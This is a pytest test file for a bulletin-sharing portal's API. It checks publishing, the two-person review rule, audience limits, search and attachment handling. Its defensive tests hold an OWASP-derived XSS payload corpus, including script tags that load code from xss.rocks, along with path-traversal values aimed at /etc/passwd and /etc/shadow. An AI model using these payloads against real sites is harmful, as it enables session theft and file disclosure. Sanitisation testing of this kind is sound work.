"""Bulletins through the API: publishing, the two-person rule, answers, partners, bad input."""
from __future__ import annotations

import datetime as dt
import json
import re

import pytest
from sqlalchemy import func, select

from portal.accounts.models import ApiToken
from portal.api.formats import iso, iso_stored
from portal.bulletins.indicators import IndicatorError, normalise
from portal.bulletins.models import Bulletin, BulletinAcknowledgement, BulletinFeedback, BulletinIndicator
from portal.config import settings
from portal.extensions import db
from portal.outbox import OutboxMessage
from tests.conftest import sign_in


@pytest.fixture
def orgs(world):
    return {
        "customs": world.org("nz-customs", "government", "customs"),
        "fiu": world.org("nz-fiu", "government", "fiu"),
        "bank": world.org("harbour-bank", "private", "banking"),
        "peer": world.org("kowhai-bank", "private", "banking"),
        "port": world.org("port-tamaki", "private", "ports"),
    }


def token_for(user):
    token, clear = ApiToken.issue(user, "t", [], None)
    db.session.add(token)
    db.session.commit()
    return {"Authorization": f"Bearer {clear}"}


@pytest.fixture
def people(world, orgs):
    users = {
        "aroha": world.user("aroha@customs.example", orgs["customs"], ("publisher",), clearance="RESTRICTED"),
        "wiremu": world.user("wiremu@customs.example", orgs["customs"], ("publisher",), clearance="RESTRICTED"),
        "ben": world.user("ben@harbour.example", orgs["bank"], ("submitter",), clearance="SENSITIVE"),
        "priya": world.user("priya@harbour.example", orgs["bank"], ("publisher",), clearance="IN-CONFIDENCE"),
        "rangi": world.user("rangi@port.example", orgs["port"], clearance="SENSITIVE"),
        "nadia": world.user("nadia@fiu.example", orgs["fiu"], ("analyst",), clearance="RESTRICTED"),
    }
    return {name: (user, token_for(user)) for name, user in users.items()}


def post(client, headers, body, path="/api/v1/bulletins", raw=None, content_type="application/json"):
    return client.post(path, data=raw if raw is not None else json.dumps(body), headers=headers,
                       content_type=content_type)


def good(**overrides):
    body = {"title": "Methamphetamine in frozen fish", "summary": "Check reefer weights.",
            "body_html": "<p>Seal numbers <strong>altered</strong>.</p>", "classification": "IN-CONFIDENCE",
            "tlp": "GREEN", "audience": {"orgs": ["harbour-bank"], "sectors": ["ports"]},
            "indicators": [{"type": "vessel-imo", "value": "IMO 9074729"}, {"type": "container", "value": "CSQU3054383"}],
            "typologies": ["drug-importation"], "publish": True}
    body.update(overrides)
    return body


def _count(model):
    return db.session.scalar(select(func.count()).select_from(model))


def test_publish_reaches_the_audience_and_queues_notifications(client, people):
    response = post(client, people["aroha"][1], good())
    assert response.status_code == 201, response.get_json()
    created = response.get_json()
    assert created["status"] == "published" and created["version"] == 1 and created["author_org"] == "nz-customs"
    assert created["indicators"] == [{"type": "vessel-imo", "value": "IMO 9074729"},
                                     {"type": "container", "value": "CSQU3054383"}]
    assert created["audience"] == {"orgs": ["harbour-bank"], "sectors": ["ports"], "countries": [], "users": []}
    assert db.session.scalar(select(OutboxMessage.event)) == "bulletin.published"
    for reader in ("ben", "rangi"):
        items = client.get("/api/v1/bulletins", headers=people[reader][1]).get_json()["items"]
        assert [b["id"] for b in items] == [created["id"]] and items[0]["audience"] is None
    assert client.get("/api/v1/bulletins", headers=people["nadia"][1]).get_json()["items"] == []


def test_two_person_rule(client, people):
    created = post(client, people["aroha"][1], good(classification="SENSITIVE")).get_json()
    assert created["status"] == "pending-review"
    assert _events() == []  # recipients are told nothing before approval (reviewers are)
    assert client.get(f"/api/v1/bulletins/{created['id']}", headers=people["ben"][1]).status_code == 404
    approve = f"/api/v1/bulletins/{created['id']}/approve"
    assert client.post(approve, headers=people["aroha"][1]).status_code == 403  # not the author herself
    assert client.post(approve, headers=people["priya"][1]).status_code == 404  # another organisation
    response = client.post(approve, headers=people["wiremu"][1])
    assert response.status_code == 200 and response.get_json()["status"] == "published"
    assert client.post(approve, headers=people["wiremu"][1]).status_code == 409
    assert client.get(f"/api/v1/bulletins/{created['id']}", headers=people["ben"][1]).status_code == 200
    red = post(client, people["aroha"][1], good(tlp="RED", audience={"users": ["ben@harbour.example"]})).get_json()
    assert red["status"] == "pending-review"


def test_acknowledge_and_feedback(client, people):
    bulletin = post(client, people["aroha"][1], good()).get_json()
    base = f"/api/v1/bulletins/{bulletin['id']}"
    first = client.post(base + "/acknowledge", headers=people["ben"][1])
    again = client.post(base + "/acknowledge", headers=people["ben"][1])
    assert first.status_code == again.status_code == 200
    assert first.get_json()["acknowledged_at"] == again.get_json()["acknowledged_at"]
    assert _count(BulletinAcknowledgement) == 1
    assert client.post(base + "/acknowledge", headers=people["aroha"][1]).status_code == 403  # own bulletin
    assert client.post(base + "/acknowledge", headers=people["nadia"][1]).status_code == 404  # not for FIU
    rated = post(client, people["ben"][1], {"rating": "useful", "comment": "We found two accounts."}, base + "/feedback")
    assert rated.status_code == 201 and rated.get_json()["rating"] == "useful"
    bad = post(client, people["ben"][1], {"rating": "brilliant"}, base + "/feedback")
    assert bad.status_code == 400 and "rating" in bad.get_json()["error"]["fields"]
    assert db.session.scalar(select(BulletinFeedback.rating)) == "useful"


def test_partners_publish_to_agencies_and_their_own_sector(client, people):
    to_agency = post(client, people["priya"][1], good(classification="UNCLASSIFIED", audience={
        "orgs": ["nz-fiu", "kowhai-bank"], "sectors": ["banking"]}, indicators=[]))
    assert to_agency.status_code == 201, to_agency.get_json()
    wrong = post(client, people["priya"][1], good(classification="UNCLASSIFIED", indicators=[],
                                                  audience={"orgs": ["port-tamaki"], "sectors": ["ports"],
                                                            "countries": ["WS"]}))
    fields = wrong.get_json()["error"]["fields"]
    assert wrong.status_code == 400 and {"audience.orgs", "audience.sectors", "audience.countries"} <= set(fields)
    assert post(client, people["ben"][1], good()).status_code == 403  # not a publisher


BAD_INPUT = [
    (good(classification="SECRET"), "classification", "accreditation"),
    (good(classification="TOP SECRET"), "classification", "RESTRICTED"),
    (good(classification="RESTRICTED"), "classification", "above your clearance"),  # priya: IN-CONFIDENCE
    (good(audience={"orgs": ["no-such-org"]}), "audience.orgs", "no-such-org"),
    (good(indicators=[{"type": "vessel-imo", "value": "IMO 9074728"}]), "indicators", "IMO"),
    (good(indicators=[{"type": "bank-account", "value": "GB00WEST12345698765432"}]), "indicators", "IBAN"),
    (good(indicators=[{"type": "ip-address", "value": "300.1.1.1"}]), "indicators", "IP"),
    (good(indicators=[{"type": "laser", "value": "x"}]), "indicators", "unknown indicator type"),
    (good(typologies=["alchemy"]), "typologies", "alchemy"),
    (good(tlp="PURPLE"), "tlp", "PURPLE"),
    (good(title=""), "title", "title"),
    (good(expires_at="next Tuesday"), "expires_at", "ISO 8601"),
    (good(tlp="RED", audience={"orgs": ["harbour-bank"]}), "audience.users", "named"),
]


@pytest.mark.parametrize("body, field, fragment", BAD_INPUT)
def test_bad_input_is_400_with_field_errors_and_nothing_is_stored(client, people, body, field, fragment):
    author = "priya" if field == "classification" and "clearance" in fragment else "aroha"
    if author == "priya":
        body = {**body, "audience": {"orgs": ["nz-fiu"]}, "indicators": []}
    response = post(client, people[author][1], body)
    assert response.status_code == 400, response.get_json()
    error = response.get_json()["error"]
    assert field in error["fields"], error
    assert fragment in " ".join(error["fields"][field]), error
    assert (_count(Bulletin), _count(BulletinIndicator), _count(OutboxMessage)) == (0, 0, 0)


def test_wrong_content_type_oversize_and_malformed(client, people):
    headers = people["aroha"][1]
    assert post(client, headers, None, raw="title=x", content_type="application/x-www-form-urlencoded").status_code == 415
    assert post(client, headers, None, raw="{not json").status_code == 400
    huge = json.dumps(good(body_html="x" * (1024 * 1024 + 10)))
    assert post(client, headers, None, raw=huge).status_code == 413
    assert _count(Bulletin) == 0


# From OWASP's XSS filter-evasion cheat sheet (a representative selection).
XSS = [
    "<script>alert('XSS')</script>",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=javascript:alert('XSS')>",
    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    "<a onmouseover=\"alert(document.cookie)\">xxs link</a>",
    "<IMG \"\"\"><SCRIPT>alert(\"XSS\")</SCRIPT>\"\\>",
    "<IMG SRC=/ onerror=\"alert(String.fromCharCode(88,83,83))\"></img>",
    "<img src=x onerror=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041\">",
    "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;\">x</a>",
    "<a href=\"jav&#x09;ascript:alert('XSS');\">x</a>",
    "<a href=\" &#14;  javascript:alert('XSS');\">x</a>",
    "<SCRIPT/XSS SRC=\"http://xss.rocks/xss.js\"></SCRIPT>",
    "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(\"XSS\")>",
    "<<SCRIPT>alert(\"XSS\");//\\<</SCRIPT>",
    "<SCRIPT SRC=http://xss.rocks/xss.js?< B >",
    "<iframe src=http://xss.rocks/scriptlet.html <",
    "</TITLE><SCRIPT>alert(\"XSS\");</SCRIPT>",
    "<INPUT TYPE=\"IMAGE\" SRC=\"javascript:alert('XSS');\">",
    "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
    "<svg/onload=alert('XSS')>",
    "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
    "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">",
    "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:alert('XSS');\">",
    "<TABLE BACKGROUND=\"javascript:alert('XSS')\">",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K\">x</a>",
    "<OBJECT TYPE=\"text/x-scriptlet\" DATA=\"http://xss.rocks/scriptlet.html\"></OBJECT>",
    "<EMBED SRC=\"data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv MjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRwOi8vd3d3LnczLm9yZy8xOTk5L3hs aW5rIiB2ZXJzaW9uPSIxLjAiIHg9IjAiIHk9IjAiIHdpZHRoPSIxOTQiIGhlaWdodD0iMjAw IiBpZD0ieHNzIj48c2NyaXB0IHR5cGU9InRleHQvZWNtYXNjcmlwdCI+YWxlcnQoIlh TUyIpOzwvc2NyaXB0Pjwvc3ZnPg==\" type=\"image/svg+xml\" AllowScriptAccess=\"always\"></EMBED>",
    "<form action=\"javascript:alert(1)\"><button>x</button></form>",
]
DANGEROUS = ("<script", "javascript:", "onerror", "onload", "onmouseover", "<iframe", "<object", "<embed",
             "<style", "<meta", "<svg", "<img", "<input", "<form", "data:text", "<body", "background=")


def test_xss_corpus_comes_out_inert(client, people):
    body = "\n".join(XSS)
    response = post(client, people["aroha"][1], good(title=XSS[0] + " title", summary=XSS[1], body_html=body))
    assert response.status_code == 201
    stored = db.session.scalar(select(Bulletin.body_html))
    lowered = stored.lower()
    for marker in DANGEROUS:
        assert marker not in lowered, marker
    sign_in(client, people["ben"][0])
    page = client.get(f"/bulletins/{response.get_json()['id']}").get_data(as_text=True).lower()
    feed = client.get("/bulletins").get_data(as_text=True).lower()
    for html in (page, feed):
        assert "<script>alert" not in html and "<img src=\"javascript" not in html
        assert "&lt;script&gt;alert" in html  # the title is shown as text, escaped
    api = client.get(f"/api/v1/bulletins/{response.get_json()['id']}", headers=people["ben"][1]).get_json()
    for marker in DANGEROUS:
        assert marker not in api["body_html"].lower()


def test_filters_and_text_search(client, people):
    post(client, people["aroha"][1], good(title="Tobacco under-declared", typologies=["illicit-tobacco"], indicators=[]))
    post(client, people["aroha"][1], good(title="Mule accounts", typologies=["money-laundering"], indicators=[]))
    headers = people["ben"][1]
    by_typology = client.get("/api/v1/bulletins?typology=illicit-tobacco", headers=headers).get_json()["items"]
    assert [b["title"] for b in by_typology] == ["Tobacco under-declared"]
    searched = client.get("/api/v1/bulletins?q=mule", headers=headers).get_json()["items"]
    assert [b["title"] for b in searched] == ["Mule accounts"]
    assert client.get("/api/v1/bulletins?q=mule", headers=people["nadia"][1]).get_json()["items"] == []
    assert client.get("/api/v1/bulletins?classification=SECRET", headers=headers).status_code == 400


@pytest.mark.parametrize("kind, value, expected", [
    ("vessel-imo", "imo 9074729", "IMO9074729"),
    ("container", "csqu 305438 3", "CSQU3054383"),
    ("flight", "nz 0990", "NZ990"),
    ("bank-account", "12 3456 7890123 00", "NZ:12-3456-7890123-000"),
    ("bank-account", "gb82 west 1234 5698 7654 32", "IBAN:GB82WEST12345698765432"),
    ("email", "Ops@Example.ORG", "ops@example.org"),
    ("domain", "Harbour-Freight.example.", "harbour-freight.example"),
    ("ip-address", "2001:db8::0001", "2001:db8::1"),
    ("crypto-wallet", "0xAbCdEf0123456789aBcDeF0123456789AbCdEf01", "0xabcdef0123456789abcdef0123456789abcdef01"),
    ("person", "Sióne  Táufa", "sione taufa"),
    ("phone", "+64 (21) 555-0123", "+64215550123"),
])
def test_indicator_normalisation(kind, value, expected):
    assert normalise(kind, value) == expected


@pytest.mark.parametrize("kind, value", [("vessel-imo", "1234568"), ("container", "CSQU3054384"),
                                          ("flight", "NZ-99999"), ("phone", "call me"), ("domain", "not a domain"),
                                          ("crypto-wallet", "0x123"), ("email", "a@")])
def test_invalid_indicators(kind, value):
    with pytest.raises(IndicatorError):
        normalise(kind, value)


def test_amend_makes_a_version_and_tells_recipients(client, people):
    created = post(client, people["aroha"][1], good()).get_json()
    base = f"/api/v1/bulletins/{created['id']}"
    no_note = client.patch(base, json={"title": "New title"}, headers=people["aroha"][1])
    assert no_note.status_code == 400 and "change_note" in no_note.get_json()["error"]["fields"]
    amended = client.patch(base, json={"title": "Methamphetamine in frozen fish and squid",
                                       "change_note": "Squid consignments too."}, headers=people["aroha"][1])
    assert amended.status_code == 200 and amended.get_json()["version"] == 2
    events = db.session.scalars(select(OutboxMessage.event).order_by(OutboxMessage.id)).all()
    assert events == ["bulletin.published", "bulletin.amended"]
    assert client.patch(base, json={"title": "x", "change_note": "y"}, headers=people["ben"][1]).status_code == 403
    from portal.bulletins.models import BulletinVersion

    assert db.session.scalars(select(BulletinVersion.change_note).order_by(BulletinVersion.version)).all() == [
        "", "Squid consignments too."]


def test_withdraw_hides_it_and_tells_recipients_without_content(client, app, people):
    from portal.notifications import delivery as engine

    created = post(client, people["aroha"][1], good(title="Secret words")).get_json()
    base = f"/api/v1/bulletins/{created['id']}"
    assert client.post(base + "/withdraw", json={}, headers=people["aroha"][1]).status_code == 400
    response = client.post(base + "/withdraw", json={"reason": "Source retracted."}, headers=people["aroha"][1])
    assert response.status_code == 200 and response.get_json()["status"] == "withdrawn"
    assert client.get(base, headers=people["ben"][1]).status_code == 404
    assert client.get(base, headers=people["aroha"][1]).status_code == 200  # the author still sees it
    engine.dispatch()
    from portal.outbox import Delivery, OutboxMessage as Message
    withdrawn = db.session.scalar(select(Message).where(Message.event == "bulletin.withdrawn"))
    told = db.session.scalars(select(Delivery).where(Delivery.message_id == withdrawn.id,
                                                     Delivery.channel == "inbox")).all()
    assert told and all(d.status == "sent" for d in told)
    sign_in(client, people["ben"][0])
    inbox = client.get("/inbox").get_data(as_text=True)
    assert f"Bulletin {created['id']} has been withdrawn" in inbox and "Secret words" not in inbox


def test_private_questions_and_sightings(client, app, world, orgs, people):
    created = post(client, people["aroha"][1], good(audience={"sectors": ["banking", "ports"]})).get_json()
    base = f"/api/v1/bulletins/{created['id']}"
    asked = client.post(base + "/questions", json={"body": "Which port of loading?"}, headers=people["ben"][1])
    assert asked.status_code == 201
    question = asked.get_json()["id"]
    # The port also received the bulletin, but never sees the bank's thread.
    assert client.get(base + "/questions", headers=people["rangi"][1]).get_json()["items"] == []
    author_view = client.get(base + "/questions", headers=people["aroha"][1]).get_json()["items"]
    assert [m["body"] for m in author_view[0]["messages"]] == ["Which port of loading?"]
    reply = client.post(f"{base}/questions/{question}/messages", json={"body": "Port Klang."},
                        headers=people["aroha"][1])
    assert reply.status_code == 201
    assert client.post(f"{base}/questions/{question}/messages", json={"body": "me too"},
                       headers=people["rangi"][1]).status_code == 404
    thread = client.get(base + "/questions", headers=people["ben"][1]).get_json()["items"][0]
    assert [m["org"] for m in thread["messages"]] == ["harbour-bank", "nz-customs"]

    seen = client.post(base + "/sightings", json={"seen_at": "2026-11-20T03:00:00Z", "context": "At the gate."},
                       headers=people["rangi"][1])
    assert seen.status_code == 201
    assert client.post(base + "/sightings", json={"seen_at": "yesterday"}, headers=people["rangi"][1]).status_code == 400
    assert len(client.get(base + "/sightings", headers=people["aroha"][1]).get_json()["items"]) == 1
    assert client.get(base + "/sightings", headers=people["ben"][1]).get_json()["items"] == []


def test_full_text_search_within_what_the_reader_may_read(client, people):
    post(client, people["aroha"][1], good(title="Sióne Táufa moving cash", summary="Structured deposits.",
                                          indicators=[]))
    post(client, people["aroha"][1], good(title="Reefer seals", body_html="<p>Containers from Port Klang</p>",
                                          indicators=[]))
    hidden = post(client, people["aroha"][1], good(title="Cash in the fish hold", indicators=[],
                                                   audience={"orgs": ["nz-fiu"]})).get_json()
    headers = people["ben"][1]

    def titles(query):
        return [b["title"] for b in client.get(f"/api/v1/bulletins?q={query}", headers=headers).get_json()["items"]]

    assert titles("sione") == ["Sióne Táufa moving cash"]  # accents do not matter
    assert titles("klang") == ["Reefer seals"]  # the body is searched too
    assert titles("cash") == ["Sióne Táufa moving cash"]  # never the bulletin Ben may not read
    assert titles("struct") == ["Sióne Táufa moving cash"]  # prefixes
    assert titles('cash" OR "fish') == []  # no query operators from input
    assert hidden["id"] not in [b["id"] for b in client.get("/api/v1/bulletins?q=fish", headers=headers)
                                .get_json()["items"]]
    amended = client.patch(f"/api/v1/bulletins/{hidden['id']}", json={"title": "Renamed", "change_note": "x"},
                           headers=people["aroha"][1])
    assert amended.status_code == 200
    assert [b["title"] for b in client.get("/api/v1/bulletins?q=renamed", headers=people["nadia"][1])
            .get_json()["items"]] == ["Renamed"]


PDF = b"%PDF-1.7\n1 0 obj << >> endobj\ntrailer << >>\n%%EOF\n"


@pytest.mark.parametrize("extra_settings", [{"attachment_storage": "database"}, {"attachment_storage": "directory"}],
                         ids=["database", "directory"])
def test_attachments_kept_by_the_store_and_served_through_the_policy(client, app, people):
    import io

    from tests.attachment_store import kept

    from portal.bulletins.models import BulletinAttachment

    created = post(client, people["aroha"][1], good()).get_json()
    base = f"/api/v1/bulletins/{created['id']}/attachments"
    upload = client.post(base, headers=people["aroha"][1], content_type="multipart/form-data",
                         data={"file": (io.BytesIO(PDF), "../../etc/evil report.pdf")})
    assert upload.status_code == 201, upload.get_json()
    meta = upload.get_json()
    assert meta["filename"] == "evil report.pdf" and meta["content_type"] == "application/pdf"
    row = db.session.get(BulletinAttachment, meta["id"])
    assert kept(app) == [PDF] and row.storage_key not in meta["filename"]
    download = client.get(f"{base}/{meta['id']}", headers=people["ben"][1])
    assert download.status_code == 200 and download.data == PDF
    assert download.headers["Content-Disposition"].startswith("attachment;")
    assert "sandbox" in download.headers["Content-Security-Policy"]
    assert client.get(f"{base}/{meta['id']}", headers=people["nadia"][1]).status_code == 404  # not for FIU
    # Refused: too large (413), a disguised file (415), not multipart (415), not the author (403).
    limit = settings(app).attachment_max_bytes
    big = client.post(base, headers=people["aroha"][1], content_type="multipart/form-data",
                      data={"file": (io.BytesIO(b"%PDF-" + b"0" * limit), "big.pdf")})
    fake = client.post(base, headers=people["aroha"][1], content_type="multipart/form-data",
                       data={"file": (io.BytesIO(b"<script>alert(1)</script>"), "notes.pdf")})
    html = client.post(base, headers=people["aroha"][1], content_type="multipart/form-data",
                       data={"file": (io.BytesIO(b"<html></html>"), "page.html")})
    plain = client.post(base, headers=people["aroha"][1], json={"file": "x"})
    other = client.post(base, headers=people["ben"][1], content_type="multipart/form-data",
                        data={"file": (io.BytesIO(PDF), "x.pdf")})
    assert (big.status_code, fake.status_code, html.status_code, plain.status_code, other.status_code) == \
        (413, 415, 415, 415, 403)
    assert db.session.scalar(select(func.count()).select_from(BulletinAttachment)) == 1
    assert kept(app) == [PDF]  # nothing left behind by refused uploads


def test_feed_items_are_exactly_the_bulletins_as_read_one_by_one(client, people):
    """The feed builds its items from plain rows (for speed); each must equal the bulletin read alone,
    audience shown to the author organisation only, for the author and for recipients."""
    import io

    first = post(client, people["aroha"][1], good()).get_json()
    post(client, people["aroha"][1], good(title="Second", indicators=[], typologies=[],
                                          audience={"sectors": ["banking"], "countries": ["WS"]}))
    third = post(client, people["aroha"][1], good(title="Third", typologies=["drug-importation", "money-laundering"]))
    upload = client.post(f"/api/v1/bulletins/{third.get_json()['id']}/attachments", headers=people["aroha"][1],
                         content_type="multipart/form-data", data={"file": (io.BytesIO(PDF), "a.pdf")})
    assert upload.status_code == 201
    assert post(client, people["priya"][1], good(title="From the bank", audience={"orgs": ["nz-customs"]},
                                                 indicators=[], typologies=[])).status_code == 201
    for reader in ("aroha", "ben", "priya", "rangi"):
        items = client.get("/api/v1/bulletins", headers=people[reader][1]).get_json()["items"]
        assert items, reader
        for item in items:
            alone = client.get(f"/api/v1/bulletins/{item['id']}", headers=people[reader][1]).get_json()
            assert item == alone, (reader, item["title"])
        # Audiences only for the author organisation: customs (aroha) and the bank (priya, ben).
        assert any(i["audience"] is not None for i in items) == (reader != "rangi")
        assert all(i["audience"] is None for i in items if i["author_org"] != people[reader][0].organisation.slug)
    assert first["id"] in [i["id"] for i in client.get("/api/v1/bulletins", headers=people["ben"][1]).get_json()["items"]]


@pytest.mark.parametrize("moment", [dt.datetime(2026, 12, 2, 17, 30, 5, tzinfo=dt.timezone.utc),
                                    dt.datetime(2026, 12, 2, 17, 30, 5, 120, tzinfo=dt.timezone.utc),
                                    dt.datetime(1999, 1, 31, 0, 0, 0, 999999, tzinfo=dt.timezone.utc)])
def test_feed_dates_read_as_stored_equal_the_bulletins_dates(client, people, moment):
    """The feed reads its instants without their type's conversion (``iso_stored``): whole seconds,
    microseconds and expiry must come out as the bulletin read alone gives them."""
    created = post(client, people["aroha"][1], good()).get_json()
    bulletin = db.session.get(Bulletin, created["id"])
    bulletin.published_at = moment
    bulletin.expires_at = moment + dt.timedelta(days=3650)
    db.session.commit()
    item = next(i for i in client.get("/api/v1/bulletins", headers=people["ben"][1]).get_json()["items"]
                if i["id"] == created["id"])
    alone = client.get(f"/api/v1/bulletins/{created['id']}", headers=people["ben"][1]).get_json()
    assert (item["published_at"], item["expires_at"]) == (alone["published_at"], alone["expires_at"])
    assert item["published_at"] == iso(moment) and item["published_at"].endswith("Z")
    assert iso_stored(moment.replace(tzinfo=None)) == iso_stored(moment) == iso(moment)
    assert iso_stored(moment.strftime("%Y-%m-%d %H:%M:%S.%f")) == iso(moment)


def test_api_feed_costs_the_same_number_of_queries_for_any_page_size(client, people):
    from sqlalchemy import event

    for n in range(12):
        assert post(client, people["aroha"][1], good(title=f"Bulletin {n}")).status_code == 201
    statements: list[str] = []

    def seen(*args) -> None:
        statements.append(args[2])

    for reader in ("aroha", "ben"):  # the author (audiences shown) and a recipient
        client.get("/api/v1/bulletins?limit=1", headers=people[reader][1])  # the token's first use is written
        counts = []
        for limit in (1, 12):
            statements.clear()
            event.listen(db.engine, "before_cursor_execute", seen)
            try:
                page = client.get(f"/api/v1/bulletins?limit={limit}", headers=people[reader][1]).get_json()
            finally:
                event.remove(db.engine, "before_cursor_execute", seen)
            assert len(page["items"]) == limit
            counts.append(len(statements))
        assert counts[0] == counts[1], (reader, counts)


@pytest.mark.parametrize("key", ["../../etc/passwd", "..", "a/b", "x" * 10, "abc/../../../../etc/shadow0000000"])
def test_attachment_paths_are_contained(app, key):
    from portal.attachments import Refused, path_for

    with pytest.raises(Refused):
        path_for(key)


# --- Issue 13, class 3: the two-person rule bypassed --------------------------------------------

@pytest.fixture
def kiri(world, orgs):
    """A third publisher of the author organisation, cleared for everything."""
    user = world.user("kiri@customs.example", orgs["customs"], ("publisher",), clearance="RESTRICTED")
    return user, token_for(user)


def _events():
    """What recipients are told (the notice to eligible reviewers is not theirs: tests/test_review_notice.py)."""
    return db.session.scalars(select(OutboxMessage.event).where(OutboxMessage.event != "bulletin.review_requested")
                              .order_by(OutboxMessage.id)).all()


def test_class_two_person_rule_bypass_edit_then_approve_refused_api(client, people, kiri):
    """A second publisher who rewrites a bulletin waiting for review (content, audience,
    classification) cannot then approve it alone; someone who changed nothing can."""
    created = post(client, people["aroha"][1], good(classification="SENSITIVE")).get_json()
    base = f"/api/v1/bulletins/{created['id']}"
    rewritten = client.patch(base, json={"title": "Rewritten by Wiremu", "classification": "RESTRICTED",
                                         "audience": {"orgs": ["nz-fiu"]}, "change_note": "Mine now."},
                             headers=people["wiremu"][1])
    assert rewritten.status_code == 200 and rewritten.get_json()["status"] == "pending-review"
    refused = client.post(base + "/approve", headers=people["wiremu"][1])
    assert refused.status_code == 403, refused.get_json()
    assert client.post(base + "/approve", headers=people["aroha"][1]).status_code == 403  # she wrote it
    assert db.session.get(Bulletin, created["id"]).status == "pending-review" and _events() == []
    approved = client.post(base + "/approve", headers=kiri[1])
    assert approved.status_code == 200 and approved.get_json()["status"] == "published"
    assert approved.get_json()["title"] == "Rewritten by Wiremu"
    assert client.get(base, headers=people["nadia"][1]).get_json()["title"] == "Rewritten by Wiremu"


def test_class_two_person_rule_bypass_amend_after_approval_goes_back_to_review(client, people, kiri):
    """After approval, the author's change of content, audience or TLP waits for review; meanwhile
    recipients read the approved version in the API, the feed and search, and are told nothing."""
    created = post(client, people["aroha"][1], good(classification="SENSITIVE", title="Reefer seals")).get_json()
    base = f"/api/v1/bulletins/{created['id']}"
    assert client.post(base + "/approve", headers=people["wiremu"][1]).status_code == 200
    assert _events() == ["bulletin.published"]
    changed = client.patch(base, json={"title": "Quietly changed", "tlp": "CLEAR",
                                       "audience": {"orgs": ["harbour-bank", "port-tamaki"], "sectors": ["banking"]},
                                       "change_note": "Wider."}, headers=people["aroha"][1])
    assert changed.status_code == 200
    body = changed.get_json()
    assert body["status"] == "published" and body["title"] == "Reefer seals" and body["version"] == 1
    assert body["pending_change"]["input"]["title"] == "Quietly changed" and not body["pending_change"]["sent_back"]
    ben = people["ben"][1]
    read = client.get(base, headers=ben).get_json()
    assert (read["title"], read["tlp"], read["version"]) == ("Reefer seals", "GREEN", 1) and "pending_change" not in read
    assert [b["title"] for b in client.get("/api/v1/bulletins", headers=ben).get_json()["items"]] == ["Reefer seals"]
    assert client.get("/api/v1/bulletins?q=quietly", headers=ben).get_json()["items"] == []
    assert _events() == ["bulletin.published"]  # nobody is told of an unreviewed change
    assert client.post(base + "/approve", headers=people["aroha"][1]).status_code == 403  # she changed it
    approved = client.post(base + "/approve", headers=people["wiremu"][1])
    assert approved.status_code == 200 and approved.get_json()["title"] == "Quietly changed"
    assert approved.get_json()["version"] == 2 and approved.get_json()["pending_change"] is None
    assert client.get(base, headers=ben).get_json()["title"] == "Quietly changed"
    assert _events() == ["bulletin.published", "bulletin.amended"]
    assert client.post(base + "/approve", headers=people["wiremu"][1]).status_code == 409  # nothing waits


def test_class_two_person_rule_bypass_lowering_classification_still_needs_review(client, world, orgs, people, kiri):
    """A reviewed bulletin lowered below SENSITIVE still goes to review; one raised above the line
    does too; and a publisher not cleared for the proposed version cannot approve it."""
    created = post(client, people["aroha"][1], good(classification="SENSITIVE", title="Cash couriers")).get_json()
    base = f"/api/v1/bulletins/{created['id']}"
    client.post(base + "/approve", headers=people["wiremu"][1])
    lowered = client.patch(base, json={"classification": "IN-CONFIDENCE", "body_html": "<p>New claims</p>",
                                       "change_note": "Lower."}, headers=people["aroha"][1])
    assert lowered.status_code == 200 and lowered.get_json()["classification"] == "SENSITIVE"
    assert lowered.get_json()["pending_change"]["input"]["classification"] == "IN-CONFIDENCE"
    assert "New claims" not in client.get(base, headers=people["ben"][1]).get_json()["body_html"]
    assert client.post(base + "/approve", headers=people["aroha"][1]).status_code == 403
    assert client.post(base + "/approve", headers=people["wiremu"][1]).status_code == 200
    after = client.get(base, headers=people["ben"][1]).get_json()
    assert after["classification"] == "IN-CONFIDENCE" and "New claims" in after["body_html"]

    plain = post(client, people["aroha"][1], good(classification="IN-CONFIDENCE", title="Plain")).get_json()
    assert plain["status"] == "published"  # below the line: no review
    raised = client.patch(f"/api/v1/bulletins/{plain['id']}", json={"classification": "RESTRICTED",
                                                                     "change_note": "Raised."},
                          headers=people["aroha"][1])
    assert raised.status_code == 200 and raised.get_json()["classification"] == "IN-CONFIDENCE"
    low = world.user("low@customs.example", orgs["customs"], ("publisher",), clearance="SENSITIVE")
    uncleared = client.post(f"/api/v1/bulletins/{plain['id']}/approve", headers=token_for(low))
    assert uncleared.status_code == 403  # reads the IN-CONFIDENCE version, not cleared for RESTRICTED
    assert client.post(f"/api/v1/bulletins/{plain['id']}/approve", headers=kiri[1]).status_code == 200
    assert db.session.get(Bulletin, plain["id"]).classification.label == "RESTRICTED"


def test_class_two_person_rule_bypass_no_files_after_approval(client, people):
    """A file added to a reviewed bulletin would reach recipients unreviewed: refused, nothing stored."""
    import io

    from portal.bulletins.models import BulletinAttachment

    created = post(client, people["aroha"][1], good(classification="SENSITIVE")).get_json()
    base = f"/api/v1/bulletins/{created['id']}"
    client.post(base + "/approve", headers=people["wiremu"][1])
    upload = client.post(base + "/attachments", headers=people["aroha"][1], content_type="multipart/form-data",
                         data={"file": (io.BytesIO(PDF), "late.pdf")})
    assert upload.status_code == 409 and _count(BulletinAttachment) == 0


# --- Issue 13, class 7: a partner reaches other sectors by naming people ------------------------

def test_class_partner_reaches_other_sectors_by_naming_people(client, world, orgs, people):
    """A bank's publisher names in a TLP:RED audience only people of agencies and of its own
    sector; someone of a port is refused exactly like an unknown address."""
